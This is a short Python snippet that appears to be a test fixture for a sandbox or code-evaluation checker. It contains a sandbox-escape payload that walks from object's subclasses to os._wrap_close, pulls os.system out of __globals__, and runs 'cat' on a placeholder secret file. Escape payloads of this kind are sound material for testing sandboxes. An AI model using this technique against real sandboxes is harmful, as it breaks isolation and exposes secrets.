# The same walk through __bases__, by index.
# effect: run
root = type(0).__bases__[0]
finder = {c.__name__: c for c in type.__subclasses__(root)}["_wrap_close"]
finder.close.__globals__["system"]("cat @SECRET@")
